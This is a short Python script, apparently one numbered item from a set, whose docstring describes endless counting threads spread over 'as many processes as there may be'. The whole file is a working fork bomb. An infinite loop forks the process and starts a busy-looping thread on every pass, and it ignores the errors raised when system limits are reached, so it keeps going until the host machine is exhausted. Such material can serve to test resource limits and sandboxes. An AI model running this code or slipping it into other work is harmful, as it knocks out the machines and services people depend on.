"""Rows 6, X4: threads that count for ever and wait for nobody, in as many processes as there may be."""

import os
import threading


def count() -> None:
    while True:
        pass


print("begun", flush=True)
while True:
    try:
        os.fork()
        threading.Thread(target=count).start()
    except (OSError, RuntimeError):
        pass
